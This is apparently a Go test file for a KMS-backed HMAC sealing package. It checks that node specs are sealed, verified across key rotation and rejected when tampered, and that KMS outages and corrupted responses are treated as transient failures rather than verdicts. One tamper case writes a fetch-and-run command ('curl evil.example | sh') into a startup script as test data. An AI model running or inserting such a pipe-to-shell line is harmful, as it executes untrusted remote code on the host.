package seal_test

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"errors"
	"strings"
	"testing"
	"time"

	kms "cloud.google.com/go/kms/apiv1"
	"cloud.google.com/go/kms/apiv1/kmspb"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/types/known/wrapperspb"

	"github.com/tpu-autoheal/autoheal/internal/seal"
	"github.com/tpu-autoheal/autoheal/internal/seal/kmsfake"
)

const (
	macKey = "projects/acme-host/locations/us-central1/keyRings/tpu-autoheal/cryptoKeys/spec-mac"
	v1     = macKey + "/cryptoKeyVersions/1"
	v2     = macKey + "/cryptoKeyVersions/2"
)

// kmsEnv is the fake KMS with versions 1 and 2 of macKey and the real
// client talking to it over gRPC.
type kmsEnv struct {
	srv    *kmsfake.Server
	client *kms.KeyManagementClient
}

func newKMSEnv(t *testing.T) kmsEnv {
	t.Helper()
	srv := kmsfake.New()
	t.Cleanup(srv.Close)
	srv.AddVersion(v1, key(1))
	srv.AddVersion(v2, key(2))
	client, err := kms.NewKeyManagementClient(context.Background(), srv.ClientOptions()...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { client.Close() })
	return kmsEnv{srv: srv, client: client}
}

func (e kmsEnv) sealer(t *testing.T, version string, timeout time.Duration) *seal.KMS {
	t.Helper()
	k, err := seal.NewKMS(e.client, version, timeout)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// wantTransient checks err is no verdict, with the status code.
func wantTransient(t *testing.T, err error, code codes.Code) {
	t.Helper()
	var tr *seal.TransientError
	switch {
	case err == nil:
		t.Fatalf("no error; want a transient %s", code)
	case !errors.Is(err, seal.ErrTransient) || !errors.As(err, &tr):
		t.Fatalf("err = %v (%T); want a *TransientError", err, err)
	case errors.Is(err, seal.ErrNotVerified):
		t.Fatalf("err = %v is also a verdict", err)
	case tr.Code != code:
		t.Fatalf("code %s (%v); want %s", tr.Code, err, code)
	}
}

// TestKMSSealIsAnHMACOfTheDigestAndVerifies: the seal names version 1 and
// its MAC is HMAC-SHA256 under version 1's secret of the message's
// SHA-256, as computed here; KMS verifies it, and so does LocalKeys
// holding the same secret under the same name.
func TestKMSSealIsAnHMACOfTheDigestAndVerifies(t *testing.T) {
	ctx := context.Background()
	e := newKMSEnv(t)
	k := e.sealer(t, v1, 0)
	s, err := k.Seal(ctx, msg)
	if err != nil {
		t.Fatal(err)
	}
	d := sha256.Sum256(msg)
	m := hmac.New(sha256.New, key(1))
	m.Write(d[:])
	if want := (seal.Seal{KeyVersion: v1, MAC: m.Sum(nil)}); !cmp.Equal(s, want) {
		t.Fatalf("seal = %x; want %x", s, want)
	}
	if err := k.Verify(ctx, msg, s); err != nil {
		t.Fatalf("Verify: %v", err)
	}
	local := mustLocal(t, v1, map[string][]byte{v1: key(1)})
	if err := local.Verify(ctx, msg, s); err != nil {
		t.Errorf("LocalKeys with the same secret: %v", err)
	}
	if diff := cmp.Diff([]string{kmsfake.MacSign, kmsfake.MacVerify}, e.srv.Calls()); diff != "" {
		t.Errorf("calls (-want +got):\n%s", diff)
	}
}

// TestKMSSealOfALargeSpecFits: KMS takes at most 64 KiB of data; a spec
// with a 256 KiB startup script still seals (its digest is what is MACed).
func TestKMSSealOfALargeSpecFits(t *testing.T) {
	ctx := context.Background()
	k := newKMSEnv(t).sealer(t, v1, 0)
	big := seal.SpecMessage(node, 1, []byte(`{"metadata":{"startup-script":"`+strings.Repeat("x", 256<<10)+`"}}`))
	s, err := k.Seal(ctx, big)
	if err != nil {
		t.Fatal(err)
	}
	if err := k.Verify(ctx, big, s); err != nil {
		t.Fatal(err)
	}
}

func TestKMSVerifyRefusesWhatWasNotSealedSo(t *testing.T) {
	ctx := context.Background()
	e := newKMSEnv(t)
	k := e.sealer(t, v1, 0)
	s, err := k.Seal(ctx, msg)
	if err != nil {
		t.Fatal(err)
	}
	flipped := seal.Seal{KeyVersion: s.KeyVersion, MAC: append([]byte(nil), s.MAC...)}
	flipped.MAC[31] ^= 0x80
	otherKey := "projects/attacker/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1"
	for _, tc := range []struct {
		name   string
		msg    []byte
		seal   seal.Seal
		reason string
		asked  bool // whether KMS is asked at all
	}{
		{"changed startup script", seal.SpecMessage(node, 3, []byte(strings.Replace(string(specJSON), "resume", "curl evil.example | sh", 1))), s, seal.ReasonMismatch, true},
		{"changed MAC", msg, flipped, seal.ReasonMismatch, true},
		{"unknown version of the key", msg, seal.Seal{KeyVersion: macKey + "/cryptoKeyVersions/9", MAC: s.MAC}, seal.ReasonUnknownVersion, true},
		{"version of another key", msg, seal.Seal{KeyVersion: otherKey, MAC: s.MAC}, seal.ReasonForeignKey, false},
		{"key version that is no resource name", msg, seal.Seal{KeyVersion: macKey + "/cryptoKeyVersions/1/../../x/cryptoKeyVersions/1", MAC: s.MAC}, seal.ReasonForeignKey, false},
		{"MAC longer than any KMS makes", msg, seal.Seal{KeyVersion: v1, MAC: make([]byte, 65)}, seal.ReasonMalformedMAC, false},
		{"no seal", msg, seal.Seal{}, seal.ReasonNoSeal, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(e.srv.Calls())
			wantNotVerified(t, k.Verify(ctx, tc.msg, tc.seal), tc.reason)
			if asked := len(e.srv.Calls()) > before; asked != tc.asked {
				t.Errorf("KMS asked: %v; want %v", asked, tc.asked)
			}
		})
	}
}

// TestKMSVerifyAcrossRotation: sealing moved to version 2; version 1's
// seals still verify.
func TestKMSVerifyAcrossRotation(t *testing.T) {
	ctx := context.Background()
	e := newKMSEnv(t)
	s1, err := e.sealer(t, v1, 0).Seal(ctx, msg)
	if err != nil {
		t.Fatal(err)
	}
	k2 := e.sealer(t, v2, 0)
	if err := k2.Verify(ctx, msg, s1); err != nil {
		t.Errorf("version 2's sealer rejects version 1's seal: %v", err)
	}
	s2, err := k2.Seal(ctx, msg)
	if err != nil || s2.KeyVersion != v2 {
		t.Errorf("seal = %+v, %v; want key version 2", s2, err)
	}
}

// TestKMSFailuresAreNoVerdict: every way KMS can fail to answer, or answer
// with data that fails its integrity checks, is a *TransientError, made of
// exactly one call (no hidden retry), and the same Verify succeeds once
// KMS answers again.
func TestKMSFailuresAreNoVerdict(t *testing.T) {
	garbleVerify := func(f func(*kmspb.MacVerifyResponse)) kmsfake.Fault {
		return kmsfake.Fault{Garble: func(r any) { f(r.(*kmspb.MacVerifyResponse)) }}
	}
	for _, tc := range []struct {
		name  string
		fault kmsfake.Fault
		code  codes.Code
	}{
		{"unavailable", kmsfake.Fault{Code: codes.Unavailable}, codes.Unavailable},
		{"deadline exceeded at KMS", kmsfake.Fault{Code: codes.DeadlineExceeded}, codes.DeadlineExceeded},
		{"hangs past the call's timeout", kmsfake.Fault{Hang: true}, codes.DeadlineExceeded},
		{"quota", kmsfake.Fault{Code: codes.ResourceExhausted}, codes.ResourceExhausted},
		{"internal", kmsfake.Fault{Code: codes.Internal}, codes.Internal},
		{"permission denied", kmsfake.Fault{Code: codes.PermissionDenied}, codes.PermissionDenied},
		{"data checksum not confirmed", garbleVerify(func(r *kmspb.MacVerifyResponse) { r.VerifiedDataCrc32C = false }), codes.DataLoss},
		{"MAC checksum not confirmed", garbleVerify(func(r *kmspb.MacVerifyResponse) { r.VerifiedMacCrc32C = false }), codes.DataLoss},
		{"success without its integrity field", garbleVerify(func(r *kmspb.MacVerifyResponse) { r.VerifiedSuccessIntegrity = false }), codes.DataLoss},
		{"failure flipped to success", garbleVerify(func(r *kmspb.MacVerifyResponse) { r.Success = !r.Success }), codes.DataLoss},
		{"answer about another version", garbleVerify(func(r *kmspb.MacVerifyResponse) { r.Name = v2 }), codes.DataLoss},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			e := newKMSEnv(t)
			// A short timeout: the hanging call ends when it passes.
			k := e.sealer(t, v1, 200*time.Millisecond)
			s, err := k.Seal(ctx, msg)
			if err != nil {
				t.Fatal(err)
			}
			e.srv.Inject(kmsfake.MacVerify, tc.fault)
			wantTransient(t, k.Verify(ctx, msg, s), tc.code)
			if got := e.srv.Calls(); len(got) != 2 {
				t.Errorf("calls %v; want one MacSign and one MacVerify (no retry)", got)
			}
			if err := k.Verify(ctx, msg, s); err != nil {
				t.Errorf("Verify once KMS answers again: %v", err)
			}
		})
	}
}

// TestKMSVerifyOfAChangedSpecDuringAnOutageIsNoVerdict: an outage is never
// read as "does not verify", even for a spec that would not verify; the
// verdict comes once KMS answers.
func TestKMSVerifyOfAChangedSpecDuringAnOutageIsNoVerdict(t *testing.T) {
	ctx := context.Background()
	e := newKMSEnv(t)
	k := e.sealer(t, v1, 0)
	s, err := k.Seal(ctx, msg)
	if err != nil {
		t.Fatal(err)
	}
	changed := seal.SpecMessage(node, 3, []byte(`{"serviceAccount":{"email":"attacker@evil.iam.gserviceaccount.com"}}`))
	e.srv.Inject(kmsfake.MacVerify, kmsfake.Fault{Code: codes.Unavailable})
	wantTransient(t, k.Verify(ctx, changed, s), codes.Unavailable)
	wantNotVerified(t, k.Verify(ctx, changed, s), seal.ReasonMismatch)
}

func TestKMSDisabledVersionIsNoVerdict(t *testing.T) {
	ctx := context.Background()
	e := newKMSEnv(t)
	k := e.sealer(t, v1, 0)
	s, err := k.Seal(ctx, msg)
	if err != nil {
		t.Fatal(err)
	}
	e.srv.DisableVersion(v1)
	wantTransient(t, k.Verify(ctx, msg, s), codes.FailedPrecondition)
	_, err = k.Seal(ctx, msg)
	wantTransient(t, err, codes.FailedPrecondition)
}

// TestKMSCallerDeadline: a caller whose context has already ended gets no
// verdict, and KMS is not asked.
func TestKMSCallerDeadline(t *testing.T) {
	e := newKMSEnv(t)
	k := e.sealer(t, v1, 0)
	s, err := k.Seal(context.Background(), msg)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel()
	wantTransient(t, k.Verify(ctx, msg, s), codes.DeadlineExceeded)
	_, err = k.Seal(ctx, msg)
	wantTransient(t, err, codes.DeadlineExceeded)
	if got := e.srv.Calls(); len(got) != 1 {
		t.Errorf("calls %v; want only the first MacSign", got)
	}
}

func TestKMSSealFailures(t *testing.T) {
	garbleSign := func(f func(*kmspb.MacSignResponse)) kmsfake.Fault {
		return kmsfake.Fault{Garble: func(r any) { f(r.(*kmspb.MacSignResponse)) }}
	}
	for _, tc := range []struct {
		name  string
		fault kmsfake.Fault
		code  codes.Code
	}{
		{"unavailable", kmsfake.Fault{Code: codes.Unavailable}, codes.Unavailable},
		{"MAC changed on the way", garbleSign(func(r *kmspb.MacSignResponse) { r.Mac[0] ^= 1 }), codes.DataLoss},
		{"MAC checksum missing", garbleSign(func(r *kmspb.MacSignResponse) { r.MacCrc32C = nil }), codes.DataLoss},
		{"MAC checksum wrong", garbleSign(func(r *kmspb.MacSignResponse) { r.MacCrc32C = wrapperspb.Int64(r.MacCrc32C.GetValue() ^ 1) }), codes.DataLoss},
		{"data checksum not confirmed", garbleSign(func(r *kmspb.MacSignResponse) { r.VerifiedDataCrc32C = false }), codes.DataLoss},
		{"signed with another version", garbleSign(func(r *kmspb.MacSignResponse) { r.Name = v2 }), codes.DataLoss},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newKMSEnv(t)
			k := e.sealer(t, v1, 0)
			e.srv.Inject(kmsfake.MacSign, tc.fault)
			s, err := k.Seal(context.Background(), msg)
			wantTransient(t, err, tc.code)
			if !s.IsZero() {
				t.Errorf("a failed Seal returned %+v; want no seal", s)
			}
			if got := e.srv.Calls(); len(got) != 1 {
				t.Errorf("calls %v; want one MacSign (no retry)", got)
			}
		})
	}
}

// TestKMSFakeChecksTheChecksumsItIsSent: a request whose CRC32C does not
// match its data is refused by the fake as by KMS (so the sealer's passing
// seals show it sends the right ones).
func TestKMSFakeChecksTheChecksumsItIsSent(t *testing.T) {
	e := newKMSEnv(t)
	_, err := e.client.MacSign(context.Background(), &kmspb.MacSignRequest{Name: v1, Data: []byte("data"), DataCrc32C: wrapperspb.Int64(1)})
	if err == nil || !strings.Contains(err.Error(), "checksum") {
		t.Errorf("MacSign with a wrong checksum: %v; want a checksum error", err)
	}
}

func TestNewKMSRefusesABadKeyVersion(t *testing.T) {
	e := newKMSEnv(t)
	for _, v := range []string{"", macKey, macKey + "/cryptoKeyVersions/0", "projects/p/cryptoKeys/k/cryptoKeyVersions/1"} {
		if _, err := seal.NewKMS(e.client, v, 0); err == nil || !strings.Contains(err.Error(), "want projects/P/locations/L/keyRings/R/cryptoKeys/K/cryptoKeyVersions/N") {
			t.Errorf("NewKMS(%q): %v; want an error naming the form", v, err)
		}
	}
	if _, err := seal.NewKMS(nil, v1, 0); err == nil {
		t.Error("NewKMS with no client: no error")
	}
}
